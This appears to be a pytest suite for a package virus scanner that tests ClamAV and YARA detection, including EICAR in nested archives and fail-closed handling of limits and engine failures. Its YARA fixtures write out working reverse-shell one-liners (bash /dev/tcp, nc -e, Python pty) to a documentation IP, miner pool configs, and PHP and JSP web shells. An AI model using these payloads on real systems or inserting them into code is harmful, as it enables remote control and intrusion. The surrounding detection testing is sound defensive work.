"""Virus scanning against real engines: clamd, clamscan and yara-python with Assay's signatures."""

from __future__ import annotations

import gzip
import hashlib
import os
import shutil
import struct
import subprocess
import threading
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
import yara

from ops.clamd import start_clamd
from ops.services import free_port
from scanner.engines import yara_rules
from scanner.engines.clamav import SIGNATURE_DIR
from scanner.engines.clamd import Session
from scanner.model import NEST, Limits, Settings
from scanner.unpack import Member, unpack
from scanner.virus import scan_members

CORPUS = Path(__file__).resolve().parent.parent / "data" / "corpus" / "packages"
# Built from halves so this file itself is not a test virus.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAN" + b"DARD-ANTIVIRUS-TEST-FILE!$H+H*"
ENGINES = ["clamd", "clamscan"]


@pytest.fixture(params=ENGINES)
def settings(request) -> Settings:
    """Settings for each ClamAV back end: the session clamd, then clamscan."""
    if request.param == "clamd":
        return Settings(clamd=request.getfixturevalue("clamd").address)
    return Settings(clamd=None)


def member(path: Path, location: str | None = None, depth: int = 1,
           container: bool = False) -> Member:
    return Member(path=path, location=location or f"pkg.zip{NEST}{path.name}",
                  size=path.stat().st_size, depth=depth, container=container)


def write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def virus_ids(findings) -> set[tuple[str, str]]:
    return {(f.location, f.signature) for f in findings if f.type == "virus"}


def nested_eicar(tmp: Path, depth: int) -> list[Member]:
    """pkg.zip holding a zip holding ... EICAR at ``depth``, as the unpacker lists it."""
    payload = write(tmp / f"d{depth}" / "eicar.com", EICAR)
    inner = payload
    for level in range(depth - 1, -1, -1):
        archive = tmp / f"d{level}" / (f"level{level}.zip" if level else "pkg.zip")
        archive.parent.mkdir(parents=True, exist_ok=True)
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
            z.write(inner, f"dir{level}/{inner.name}")
        inner = archive
    members, location = [], "pkg.zip"
    for level in range(depth + 1):
        name = "eicar.com" if level == depth else f"level{level}.zip" if level else "pkg.zip"
        path = tmp / f"d{level}" / name
        if level:
            location += f"{NEST}dir{level - 1}/{path.name}"
        members.append(Member(path, location, path.stat().st_size, level, level < depth))
    return members


# --- ClamAV: EICAR, Assay's test signatures -----------------------------------------------


def test_eicar_plain_file(tmp_path, settings):
    eicar = member(write(tmp_path / "eicar.com", EICAR))

    findings, engines = scan_members([eicar], settings)

    assert len(findings) == 1
    (found,) = findings
    assert (found.type, found.signature, found.engine) == ("virus", "Assay.Test.EICAR", "clamav")
    assert found.blocking and found.location == "pkg.zip!/eicar.com"
    assert found.id == hashlib.sha256(b"virus|Assay.Test.EICAR|pkg.zip!/eicar.com").hexdigest()[:32]
    assert engines["clamav"].startswith("ClamAV 1.")
    assert "rules" in engines["yara"]


@pytest.mark.parametrize("depth", [1, 2, 3])
def test_eicar_in_nested_zips(tmp_path, settings, depth):
    members = nested_eicar(tmp_path, depth)

    findings, _ = scan_members(members, settings)

    # ClamAV finds it in every enclosing zip too; those hits are explained by the
    # deepest one and folded into it.
    assert virus_ids(findings) == {(members[-1].location, "Assay.Test.EICAR")}
    assert [f.type for f in findings] == ["virus"]


@pytest.mark.parametrize("depth", [1, 3])
def test_eicar_found_in_the_zip_itself(tmp_path, settings, depth):
    outer = nested_eicar(tmp_path, depth)[0]

    findings, _ = scan_members([outer], settings)

    assert virus_ids(findings) == {("pkg.zip", "Assay.Test.EICAR")}


@pytest.mark.parametrize(
    "data, signature",
    [
        (b"Assay hash signature test file: scanning works.\n", "Assay.Test.Hash"),
        (b"ASSAY-MALWARE-TEST-SIGNATURE:3b9f0c1e-not-a-virus", "Assay.Test.Marker"),
        (b"a ASSAY-LOGICAL-PART-TWO b ASSAY-LOGICAL-PART-ONE c", "Assay.Test.Logical"),
    ],
)
def test_assay_test_signatures(tmp_path, settings, data, signature):
    findings, _ = scan_members([member(write(tmp_path / "sample.bin", data))], settings)

    assert virus_ids(findings) == {("pkg.zip!/sample.bin", signature)}


def test_the_corpus_has_no_virus_but_pkg_d_eicar(tmp_path, clamd):
    """The real packages, unpacked by the real unpacker: only pkg-d's EICAR is found."""
    settings = Settings(clamd=clamd.address)
    found = {}
    for package in sorted(p for p in CORPUS.iterdir() if p.name.startswith("pkg-")):
        unpacked = unpack(package, tmp_path / package.name, settings.limits, name=package.name)
        findings, _ = scan_members(unpacked.members, settings)
        found[package.name] = [(f.type, f.location, f.signature) for f in findings]

    assert found == {
        "pkg-a-python-app.tar.gz": [],
        "pkg-b-node-app.zip": [],
        "pkg-c-clean.tar.gz": [],
        "pkg-d-eicar-nested.zip": [(
            "virus",
            "pkg-d-eicar-nested.zip!/acme-docs-bundle-1.0/assets/extras.zip!/inner/payload.zip"
            "!/tools/eicar.com",
            "Assay.Test.EICAR",
        )],
    }


def test_clamscan_reads_pkg_d_through_the_unpacker(tmp_path):
    package = CORPUS / "pkg-d-eicar-nested.zip"
    unpacked = unpack(package, tmp_path / "scratch", Limits(), name=package.name)

    findings, engines = scan_members(unpacked.members, Settings())

    assert [(f.signature, f.location.rsplit(NEST, 2)[-2:]) for f in findings] == [
        ("Assay.Test.EICAR", ["inner/payload.zip", "tools/eicar.com"])
    ]
    assert engines["clamav"].startswith("ClamAV 1.")


# --- Fail closed: limits, encryption, errors, a dead daemon --------------------------------


def test_file_over_the_scan_limit_is_never_sent(tmp_path, settings):
    """Files over 2 GiB can't be scanned; here the bound is lowered to 1000 bytes."""
    settings = replace(settings, limits=Limits(max_scan_file_bytes=1000))
    big = member(write(tmp_path / "big.bin", EICAR + os.urandom(2000)))
    big_archive = member(write(tmp_path / "big.zip", os.urandom(2000)), container=True)

    findings, _ = scan_members([big, big_archive], settings)

    # The oversized container was opened by the unpacker; its files are members of their own.
    assert [(f.type, f.location, f.engine, f.blocking) for f in findings] == [
        ("unscanned", "pkg.zip!/big.bin", "clamav", True)
    ]
    assert findings[0].summary.startswith("file over 2 GiB cannot be scanned")


def test_clamd_limit_alert_is_unscanned(tmp_path, clamd_small_limits):
    settings = Settings(clamd=clamd_small_limits.address)
    large = member(write(tmp_path / "large.bin", os.urandom(200 * 1024)))
    small = member(write(tmp_path / "small.txt", b"fine\n"))

    findings, _ = scan_members([large, small], settings)

    assert [(f.type, f.location, f.signature) for f in findings] == [
        ("unscanned", "pkg.zip!/large.bin", "Heuristics.Limits.Exceeded.MaxFileSize")
    ]
    assert findings[0].blocking and "MaxFileSize" in findings[0].summary


def test_clamd_limit_alert_inside_an_unopened_archive(tmp_path, clamd_small_limits):
    """A zip ClamAV opens but the unpacker did not: the big file inside is a gap.

    (ClamAV judges a zip entry by its compressed size; one that only inflates
    past MaxFileSize is trimmed to it silently, hence incompressible data here.)
    """
    archive = tmp_path / "data.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("random.bin", os.urandom(300 * 1024))
    findings, _ = scan_members([member(archive)], Settings(clamd=clamd_small_limits.address))

    assert [(f.type, f.signature) for f in findings] == [
        ("unscanned", "Heuristics.Limits.Exceeded.MaxFileSize")
    ]


def test_clamscan_limit_alert_is_unscanned(tmp_path):
    """clamscan gets the same limits, MaxFileSize lowered with the scan bound."""
    settings = Settings(limits=Limits(max_scan_file_bytes=64 * 1024))
    # 300 KiB of zeros in a few hundred bytes of gzip: sent, then inflated past the limit.
    archive = write(tmp_path / "data.gz", gzip.compress(bytes(300 * 1024)))

    findings, _ = scan_members([member(archive)], settings)

    assert [(f.type, f.signature, f.blocking) for f in findings] == [
        ("unscanned", "Heuristics.Limits.Exceeded.MaxFileSize", True)
    ]


def test_limit_alert_on_an_opened_container_is_no_gap(tmp_path, clamd_small_limits):
    """The unpacker opened this zip and its big file was scanned on its own."""
    archive = tmp_path / "data.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("random.bin", os.urandom(300 * 1024))
    inner = write(tmp_path / "x" / "random.bin", b"small now\n")
    members = [member(archive, "pkg.zip", depth=0, container=True),
               member(inner, f"pkg.zip{NEST}random.bin")]

    findings, _ = scan_members(members, Settings(clamd=clamd_small_limits.address))

    assert findings == []


def test_stream_longer_than_clamd_accepts_is_unscanned(tmp_path, clamd_small_limits):
    data = member(write(tmp_path / "stream.bin", os.urandom(600 * 1024)))

    findings, _ = scan_members([data], Settings(clamd=clamd_small_limits.address))

    assert [f.type for f in findings] == ["unscanned"]
    assert "ClamAV" in findings[0].summary and findings[0].blocking


@pytest.mark.skipif(not shutil.which("zip"), reason="needs Info-ZIP zip for traditional encryption")
def test_encrypted_zip_is_unscanned(tmp_path, settings):
    write(tmp_path / "src" / "eicar.com", EICAR)
    archive = tmp_path / "secret.zip"
    subprocess.run(["zip", "-q", "-P", "hunter2", str(archive), "eicar.com"],
                   cwd=tmp_path / "src", check=True)

    findings, _ = scan_members([member(archive)], settings)

    assert [(f.type, f.signature, f.blocking) for f in findings] == [
        ("unscanned", "Heuristics.Encrypted.Zip", True)
    ]
    assert "encrypted" in findings[0].summary


def test_unreachable_clamd_fails_closed(tmp_path):
    marker = member(write(tmp_path / "marker.bin", b"ASSAY-YARA-TEST!"))
    clean = member(write(tmp_path / "readme.txt", b"hello\n"))
    root = member(write(tmp_path / "pkg.zip", b"PK\x05\x06" + bytes(18)), "pkg.zip", depth=0)

    for address in (f"tcp://127.0.0.1:{free_port()}", f"unix://{tmp_path}/no-such.ctl"):
        findings, engines = scan_members([root, marker, clean], Settings(clamd=address))

        unscanned = [f for f in findings if f.type == "unscanned"]
        assert [(f.location, f.engine, f.blocking) for f in unscanned] == [
            ("pkg.zip", "clamav", True)
        ]
        # The worker recognises a dead engine by these words and retries instead of rejecting.
        assert unscanned[0].summary.startswith("ClamAV unavailable")
        assert "3 of 3 files were not scanned" in unscanned[0].summary
        assert engines["clamav"].startswith("unavailable")
        # yara-python still ran the rules ClamAV cannot.
        assert virus_ids(findings) == {("pkg.zip!/marker.bin", "YARA.Assay_Test_ConditionOnly")}


def test_clamd_that_dies_fails_closed(tmp_path):
    service = start_clamd(tmp_path / "clamd")
    settings = Settings(clamd=service.address)
    files = [member(write(tmp_path / f"f{n}.txt", b"clean %d\n" % n)) for n in range(5)]
    try:
        assert scan_members(files, settings)[0] == []
    finally:
        service.stop()

    findings, _ = scan_members(files, settings)

    assert [(f.type, f.engine) for f in findings] == [("unscanned", "clamav")]


def test_empty_file_is_clean(tmp_path, settings):
    empty = member(write(tmp_path / "py.typed", b""))

    assert scan_members([empty], settings)[0] == []


def test_unreadable_member_is_unscanned(tmp_path, settings):
    gone = member(write(tmp_path / "gone.txt", b"here for a moment\n"))
    gone.path.unlink()

    findings, _ = scan_members([gone], settings)

    assert {(f.type, f.engine) for f in findings} == {
        ("unscanned", "clamav"), ("unscanned", "yara")
    }
    assert all(f.blocking for f in findings)


def test_clamscan_missing_fails_closed(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    findings, engines = scan_members([member(write(tmp_path / "a.txt", b"a\n"))], Settings())

    assert [(f.type, f.engine) for f in findings] == [("unscanned", "clamav")]
    assert "not installed" in engines["clamav"]


# --- YARA ------------------------------------------------------------------------------------

SAMPLES = {
    "Assay_ReverseShell_Bash": b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
    "Assay_ReverseShell_Netcat": b"#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n",
    "Assay_ReverseShell_Python": (
        b"import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
        b"s.connect(('203.0.113.7',4444))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\n"
        b"pty.spawn('/bin/sh')\n"
    ),
    "Assay_CryptoMiner_Stratum": b'{"url": "stratum+tcp://pool.example.net:3333", "user": "w"}\n',
    "Assay_CryptoMiner_XMRig_Config": (
        b'{\n "donate-level": 1,\n "pools": [\n  {"url": "pool.example.net:443", "user": "w",'
        b' "algo": "rx/0", "keepalive": true}\n ]\n}\n'
    ),
    "Assay_WebShell_PHP": b"<?php @eval(base64_decode($_POST['c'])); ?>\n",
    "Assay_WebShell_JSP": (
        b'<%@ page import="java.io.*" %>\n<% Process p = Runtime.getRuntime()'
        b'.exec(request.getParameter("cmd")); %>\n'
    ),
}

NEAR_MISSES = {
    "shell.md": b"Never run `bash -i` from a script; /dev/tcp is a bash feature.\n",
    "net.sh": b"nc -z example.org 443 && echo open\n",
    "client.py": b"import socket\ns = socket.socket()\ns.connect(('example.org', 80))\n",
    "mining.md": b"This library is not a stratum client; see the pools documentation.\n",
    "config.json": b'{"pools": [], "url": "db.example.org:5432"}\n',
    "eval.php": b"<?php $code = trim($input); eval($code); echo $_POST['name']; ?>\n",
    "exec.jsp": b'<% String cmd = "ls"; Runtime.getRuntime().exec(cmd); %>\n',
}


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_yara_rule_fires_once(tmp_path, settings, rule):
    sample = member(write(tmp_path / "sample", SAMPLES[rule]))

    findings, _ = scan_members([sample], settings)

    # ClamAV runs the rules it can; yara-python does not run them a second time.
    assert [(f.type, f.signature, f.engine) for f in findings] == [
        ("virus", f"YARA.{rule}", "clamav")
    ]


def test_clamav_runs_every_rule_of_the_top_level_rule_file():
    """Each rule yara-python leaves to ClamAV is one ClamAV can run (strings, no imports)."""
    text = (SIGNATURE_DIR / "assay.yar").read_bytes()

    assert not yara_rules.clamav_skips(text)
    assert {rule.identifier for rule in yara.compile(source=text.decode())} == set(SAMPLES)
    assert SIGNATURE_DIR / "assay.yar" not in yara_rules.rule_files()


@pytest.mark.parametrize(
    "text, skipped",
    [
        (b'rule A { strings: $a = "x" condition: $a }', False),
        (b'rule A { strings:\n $a = "x"\n condition: $a }\nrule B { condition: filesize < 4 }', True),
        (b'import "pe"\nrule A { strings: $a = "x" condition: $a and pe.is_pe }', True),
        (b'/* rule Hidden { condition: true } */\nrule A { strings: $a = "x" condition: $a }', False),
        (b'private rule P { condition: true }\nrule A { strings: $a = "x" condition: $a and P }', True),
    ],
)
def test_which_rule_files_clamav_would_skip(text, skipped):
    assert yara_rules.clamav_skips(text) == skipped


def test_yara_rules_stay_quiet_on_near_misses(tmp_path, settings):
    members = [member(write(tmp_path / name, data)) for name, data in NEAR_MISSES.items()]

    findings, _ = scan_members(members, settings)

    assert findings == []


def test_rule_clamav_cannot_run_is_matched_by_yara(tmp_path, clamd):
    sample = member(write(tmp_path / "marker.bin", b"ASSAY-YARA-TEST!"))

    with Session(clamd.address) as session:
        assert session.scan_file(sample.path).kind == "clean"
    findings, _ = scan_members([sample], Settings(clamd=clamd.address))

    assert [(f.signature, f.engine) for f in findings] == [
        ("YARA.Assay_Test_ConditionOnly", "yara")
    ]


def tiny_dll(export: str) -> bytes:
    """A minimal PE32 DLL whose export table names one function, ``export``."""
    rva, size = 0x1000, 0x200
    funcs, names, ords = rva + 40, rva + 44, rva + 48
    name_at, dll_at = rva + 50, rva + 51 + len(export)
    body = struct.pack("<IIHHIIIIIII", 0, 0, 0, 0, dll_at, 1, 1, 1, funcs, names, ords)
    body += struct.pack("<IIH", rva, name_at, 0) + export.encode() + b"\0x.dll\0"
    dos = b"MZ".ljust(0x3C, b"\0") + struct.pack("<I", 0x40)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x2102)  # a DLL
    optional = struct.pack(
        "<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x10B, 1, 0, 0, size, 0, 0, rva, rva, 0x10000000,
        0x1000, 0x200, 4, 0, 0, 0, 4, 0, 0, 0x2000, 0x200, 0, 2, 0, 0x100000, 0x1000,
        0x100000, 0x1000, 0, 16,
    ) + struct.pack("<II", rva, size) + bytes(8 * 15)  # data directory 0: exports
    section = struct.pack("<8sIIIIIIHHI", b".edata", size, rva, size, 0x200, 0, 0, 0, 0, 0x40000040)
    return (dos + coff + optional + section).ljust(0x200, b"\0") + body.ljust(size, b"\0")


def test_pe_module_rule_is_matched_by_yara(tmp_path, settings):
    implant = member(write(tmp_path / "implant.dll", tiny_dll("ReflectiveLoader")))
    plain = member(write(tmp_path / "plain.dll", tiny_dll("DllRegisterServer")))

    findings, _ = scan_members([implant, plain], settings)

    assert [(f.location, f.signature, f.engine) for f in findings] == [
        ("pkg.zip!/implant.dll", "YARA.Assay_PE_ReflectiveLoader", "yara")
    ]


def test_yara_rules_quiet_on_the_corpus_content(tmp_path):
    """Every file of the four real packages against every rule file, in yara-python alone."""
    settings = Settings()
    rules = yara_rules.compile_rules(sorted(SIGNATURE_DIR.rglob("*.yar")))
    hits = {}
    for package in sorted(p for p in CORPUS.iterdir() if p.name.startswith("pkg-")):
        unpacked = unpack(package, tmp_path / package.name, settings.limits, name=package.name)
        for m in unpacked.members:
            if m.path.is_file() and (found := rules.match(m.path, m.path.read_bytes()[:8])):
                hits[m.location] = found

    assert rules.count == len(SAMPLES) + 2
    assert hits == {}


def test_extra_signature_dirs_are_used(tmp_path):
    rules = write(tmp_path / "rules" / "extra.yar",
                  b'rule Extra_Test { strings: $a = "extra-rule-marker-42" condition: $a }\n')
    sample = member(write(tmp_path / "s.txt", b"... extra-rule-marker-42 ...\n"))

    findings, engines = scan_members([sample], Settings(signature_dirs=(rules.parent,)))

    assert virus_ids(findings) == {("pkg.zip!/s.txt", "YARA.Extra_Test")}


# --- Progress -------------------------------------------------------------------------------


def test_progress_counts_every_member_on_the_calling_thread(tmp_path, clamd):
    members = [member(write(tmp_path / f"f{n}.txt", b"%d\n" % n)) for n in range(40)]
    members.append(member(write(tmp_path / "huge.bin", b"x" * 100)))
    calls = []
    caller = threading.current_thread()

    def progress(stage, done, total):
        assert threading.current_thread() is caller
        calls.append((stage, done, total))

    settings = Settings(clamd=clamd.address, limits=Limits(max_scan_file_bytes=50))
    scan_members(members, settings, progress)

    assert calls[0] == ("virus", 1, 41)  # the oversized file counts as done at once
    assert calls[-1] == ("virus", 41, 41)
    assert all(stage == "virus" for stage, _, _ in calls)
    assert [done for _, done, _ in calls] == sorted(done for _, done, _ in calls)
